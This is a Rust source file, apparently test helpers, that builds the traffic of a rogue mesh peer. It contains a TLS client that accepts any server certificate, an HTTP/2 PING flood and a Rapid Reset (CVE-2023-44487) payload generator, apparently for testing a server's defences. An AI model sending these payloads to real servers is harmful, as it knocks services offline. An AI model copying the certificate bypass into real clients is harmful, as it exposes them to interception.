//! Pieces of a peer that misbehaves: what a sidecar's first flight looks
//! like to a server that cannot tell it from a real one yet.

use std::sync::Arc;

/// A TLS 1.3 ClientHello offering `appid/1`, as a peer sidecar's starts.
pub fn mesh_client_hello() -> Vec<u8> {
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AcceptAnyServer(provider)))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"appid/1".to_vec()];
    let name = rustls::pki_types::ServerName::try_from("api.test").unwrap();
    let mut connection = rustls::ClientConnection::new(Arc::new(config), name).unwrap();
    let mut hello = Vec::new();
    connection.write_tls(&mut hello).unwrap();
    hello
}

/// A rogue peer does not check the server's certificate: it only needs
/// the server to accept its own (or gets no further than its hello).
#[derive(Debug)]
pub struct AcceptAnyServer(pub Arc<rustls::crypto::CryptoProvider>);

impl rustls::client::danger::ServerCertVerifier for AcceptAnyServer {
    fn verify_server_cert(
        &self,
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &[rustls::pki_types::CertificateDer<'_>],
        _: &rustls::pki_types::ServerName<'_>,
        _: &[u8],
        _: rustls::pki_types::UnixTime,
    ) -> Result<rustls::client::danger::ServerCertVerified, rustls::Error> {
        Ok(rustls::client::danger::ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &rustls::pki_types::CertificateDer<'_>,
        _: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        Err(rustls::Error::General("TLS 1.3 only".into()))
    }
    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &rustls::pki_types::CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<rustls::client::danger::HandshakeSignatureValid, rustls::Error> {
        rustls::crypto::verify_tls13_signature(
            message,
            cert,
            dss,
            &self.0.signature_verification_algorithms,
        )
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}

/// One raw HTTP/2 frame: the 9-byte header (24-bit length, type, flags,
/// stream), then the payload.
pub fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&length.to_be_bytes()[1..]); // 24 bits
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HTTP/2 control-frame flood: an empty SETTINGS and 5 000 PINGs, after
/// the client connection preface when `preface` (the flooder is the
/// client).
pub fn ping_flood(preface: bool) -> Vec<u8> {
    let mut flood = Vec::new();
    if preface {
        flood.extend_from_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    }
    flood.extend(h2_frame(0x4, 0, 0, &[]));
    for i in 0..5_000u64 {
        flood.extend(h2_frame(0x6, 0, 0, &i.to_be_bytes()));
    }
    flood
}

/// The header block of `GET http://127.0.0.1{path}`, by hand: `:method
/// GET` and `:scheme http` from the static table, `:path` and
/// `:authority` as literals (no Huffman, no dynamic table).
pub fn h2_get_block(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
    block.extend_from_slice(path.as_bytes());
    block.extend_from_slice(&[0x01, 9]);
    block.extend_from_slice(b"127.0.0.1");
    block
}

/// Rapid reset (CVE-2023-44487) as a client sends it: the preface, an
/// empty SETTINGS, then `requests` times a `GET {path}` (HEADERS with
/// END_STREAM) at once followed by its RST_STREAM(CANCEL).
pub fn rapid_reset(path: &str, requests: u32) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(h2_frame(0x4, 0, 0, &[]));
    let block = h2_get_block(path);
    for i in 0..requests {
        let stream = 2 * i + 1;
        out.extend(h2_frame(0x1, 0x5, stream, &block));
        out.extend(h2_frame(0x3, 0, stream, &0x8u32.to_be_bytes()));
    }
    out
}
